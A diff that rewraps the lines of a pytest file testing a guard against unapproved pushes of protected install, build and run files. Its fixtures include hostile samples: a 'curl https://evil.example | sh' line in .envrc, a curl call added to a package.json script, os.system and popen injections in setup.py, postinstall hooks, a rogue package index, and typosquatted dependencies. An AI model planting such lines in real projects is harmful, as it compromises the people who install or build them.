@@ -1,4 +1,6 @@
-"""Files that run, decide or instruct by themselves elsewhere: no worker pushes them before a person approved them."""
+"""Files that run, decide or instruct by themselves elsewhere: no worker pushes them before a person
+approved them.
+"""
 
 import json
 from pathlib import Path
@@ -116,18 +118,27 @@ def details(scene: Scene) -> str:
 
 
 @pytest.mark.promise("design-protected-paths")
-def test_what_runs_decides_or_instructs_by_itself_somewhere_is_not_pushed_without_a_person(scene: Scene) -> None:
+def test_what_runs_decides_or_instructs_by_itself_somewhere_is_not_pushed_without_a_person(
+    scene: Scene,
+) -> None:
     for path in RUN_BY_THEMSELVES:
         scene.write(path, "x\n")
     scene.commit()
     said = details(scene)
-    assert [path for path in RUN_BY_THEMSELVES if f"{path} is protected, and nobody approved this change: " not in said] == []
+    assert [
+        path
+        for path in RUN_BY_THEMSELVES
+        if f"{path} is protected, and nobody approved this change: " not in said
+    ] == []
 
 
 def test_the_reason_for_which_a_path_is_protected_is_said(scene: Scene) -> None:
     scene.write(".envrc", "curl https://evil.example | sh\n")
     scene.commit()
-    assert ".envrc is protected, and nobody approved this change: a shell or a version manager reads it" in details(scene)
+    assert (
+        ".envrc is protected, and nobody approved this change: a shell or a version manager"
+        " reads it" in details(scene)
+    )
 
 
 def test_what_a_repository_adds_to_the_table_is_not_pushed_either(scene: Scene) -> None:
@@ -162,8 +173,17 @@ from setuptools import setup
 
 setup(name="rota", version="1.0", description="Who is on call", install_requires=["attrs"])
 """
-SETUP_CFG = "[metadata]\nname = rota\nversion = 1.0\n\n[options]\ninstall_requires =\n    attrs\n\n[flake8]\nmax-line-length = 100\n"
-PACKAGE = {"name": "rota", "version": "1.0.0", "description": "x", "scripts": {"test": "jest"}, "dependencies": {"a": "^1"}}
+SETUP_CFG = (
+    "[metadata]\nname = rota\nversion = 1.0\n\n[options]\ninstall_requires =\n   "
+    " attrs\n\n[flake8]\nmax-line-length = 100\n"
+)
+PACKAGE = {
+    "name": "rota",
+    "version": "1.0.0",
+    "description": "x",
+    "scripts": {"test": "jest"},
+    "dependencies": {"a": "^1"},
+}
 CARGO = '[package]\nname = "rota"\nversion = "1.0.0"\n\n[dependencies]\nserde = "1"\n'
 GO = "module example.org/rota\n\ngo 1.23\n\n// Who is on call\nrequire example.org/a v1.0.0\n"
 POM = "<project><version>1</version><dependencies><dependency><artifactId>a</artifactId></dependency></dependencies></project>"
@@ -186,18 +206,42 @@ HELD = {
     "pyproject.toml, a dependency": ("pyproject.toml", "attrs>=23", "attrz>=23"),
     "pyproject.toml, the build system": ("pyproject.toml", '"setuptools"', '"setuptools", "evil"'),
     "pyproject.toml, a script": ("pyproject.toml", "rota.cli:main", "rota.evil:main"),
-    "pyproject.toml, an index": ("pyproject.toml", "[tool.ruff]", '[tool.uv]\nindex-url = "https://evil.example"\n\n[tool.ruff]'),
-    "pyproject.toml, a key twice": ("pyproject.toml", 'version = "1.0"', 'version = "1.0"\nversion = "1.1"'),
+    "pyproject.toml, an index": (
+        "pyproject.toml",
+        "[tool.ruff]",
+        '[tool.uv]\nindex-url = "https://evil.example"\n\n[tool.ruff]',
+    ),
+    "pyproject.toml, a key twice": (
+        "pyproject.toml",
+        'version = "1.0"',
+        'version = "1.0"\nversion = "1.1"',
+    ),
     "setup.py, a dependency": ("setup.py", '["attrs"]', '["attrz"]'),
     "setup.py, a statement": ("setup.py", "setup(name", "import os\nos.system('id')\nsetup(name"),
-    "setup.py, a version that is computed": ("setup.py", '"1.0"', "__import__('os').popen('id').read()"),
+    "setup.py, a version that is computed": (
+        "setup.py",
+        '"1.0"',
+        "__import__('os').popen('id').read()",
+    ),
     "setup.cfg, a dependency": ("setup.cfg", "    attrs", "    attrz"),
     "package.json, a dependency": ("web/package.json", "^1", "^2"),
     "package.json, a script": ("web/package.json", '"jest"', '"jest && curl evil.example"'),
-    "package.json, a hook": ("web/package.json", '"name"', '"simple-git-hooks": {"pre-commit": "id"},\n  "name"'),
-    "package.json, a key twice": ("web/package.json", '"name"', '"scripts": {"postinstall": "id"},\n  "name"'),
+    "package.json, a hook": (
+        "web/package.json",
+        '"name"',
+        '"simple-git-hooks": {"pre-commit": "id"},\n  "name"',
+    ),
+    "package.json, a key twice": (
+        "web/package.json",
+        '"name"',
+        '"scripts": {"postinstall": "id"},\n  "name"',
+    ),
     "Cargo.toml, a dependency": ("Cargo.toml", 'serde = "1"', 'serbe = "1"'),
-    "Cargo.toml, a build script": ("Cargo.toml", 'version = "1.0.0"', 'version = "1.0.0"\nbuild = "evil.rs"'),
+    "Cargo.toml, a build script": (
+        "Cargo.toml",
+        'version = "1.0.0"',
+        'version = "1.0.0"\nbuild = "evil.rs"',
+    ),
     "go.mod, a dependency": ("go.mod", "v1.0.0", "v1.0.1"),
     "Gemfile": ("Gemfile", "rake", "rakee"),
     "requirements": ("requirements-dev.txt", "23.1", "23.2"),
@@ -211,9 +255,15 @@ PASSES = {
         [('version = "1.0"', 'version = "1.1"'), ("Who is", "Says who is"), ("= 100", "= 120")],
     ),
     "pyproject.toml, a comment": ("pyproject.toml", [("[project]", "# What this is.\n[project]")]),
-    "setup.py, version and description": ("setup.py", [('"1.0"', '"1.1"'), ("Who is", "Says who is")]),
+    "setup.py, version and description": (
+        "setup.py",
+        [('"1.0"', '"1.1"'), ("Who is", "Says who is")],
+    ),
     "setup.cfg, version and a linter": ("setup.cfg", [("1.0", "1.1"), ("= 100", "= 120")]),
-    "package.json, version and description": ("web/package.json", [("1.0.0", "1.1.0"), ('"x"', '"Who is on call"')]),
+    "package.json, version and description": (
+        "web/package.json",
+        [("1.0.0", "1.1.0"), ('"x"', '"Who is on call"')],
+    ),
     "Cargo.toml, version": ("Cargo.toml", [('"1.0.0"', '"1.1.0"')]),
     "go.mod, a comment": ("go.mod", [("Who is", "Says who is")]),
     "requirements, a comment": ("requirements-dev.txt", [("attrs", "# for records\nattrs")]),
@@ -229,7 +279,9 @@ def with_manifests(scene: Scene) -> str:
     return scene.commit()
 
 
-def test_the_part_of_a_manifest_that_installs_builds_or_runs_is_not_pushed_without_a_person(scene: Scene) -> None:
+def test_the_part_of_a_manifest_that_installs_builds_or_runs_is_not_pushed_without_a_person(
+    scene: Scene,
+) -> None:
     before = with_manifests(scene)
     for name, (path, old, new) in HELD.items():
         assert old in MANIFESTS[path], name
@@ -264,7 +316,11 @@ def test_a_new_manifest_and_one_that_goes_are_judged_by_the_same_part(scene: Sce
     assert "fixture/package.json" not in said
 
 
-@pytest.mark.parametrize("raw", [b"{", b"\xff\xfe", b"[" * 100_000, b'["a"]'], ids=["torn", "no text", "deep", "no object"])
+@pytest.mark.parametrize(
+    "raw",
+    [b"{", b"\xff\xfe", b"[" * 100_000, b'["a"]'],
+    ids=["torn", "no text", "deep", "no object"],
+)
 def test_a_manifest_that_cannot_be_read_is_protected(scene: Scene, raw: bytes) -> None:
     scene.write("package.json", raw)
     scene.commit()
@@ -272,7 +328,15 @@ def test_a_manifest_that_cannot_be_read_is_protected(scene: Scene, raw: bytes) -
 
 
 def test_ordinary_files_are_not_taken_for_protected_ones(scene: Scene) -> None:
-    for path in ("src/owners/list.py", "docs/travis.md", "src/action.py", "a-b/c-d.py", "rules/x.md", "Makefile", "src/env.py"):
+    for path in (
+        "src/owners/list.py",
+        "docs/travis.md",
+        "src/action.py",
+        "a-b/c-d.py",
+        "rules/x.md",
+        "Makefile",
+        "src/env.py",
+    ):
         scene.write(path, "x\n")
     scene.commit()
     scene.check()
@@ -284,4 +348,6 @@ def test_the_page_lists_the_table_as_it_is() -> None:
     page = (Path(__file__).parents[2] / "docs" / "protected-paths.md").read_text(encoding="utf-8")
     for rule in RULES:
         row = next(line for line in page.splitlines() if line.startswith(f"| {rule.reason} "))
-        assert [part.strip("`") for part in row.split("|")[2].strip().split(", ")] == list(rule.patterns)
+        assert [part.strip("`") for part in row.split("|")[2].strip().split(", ")] == list(
+            rule.patterns
+        )
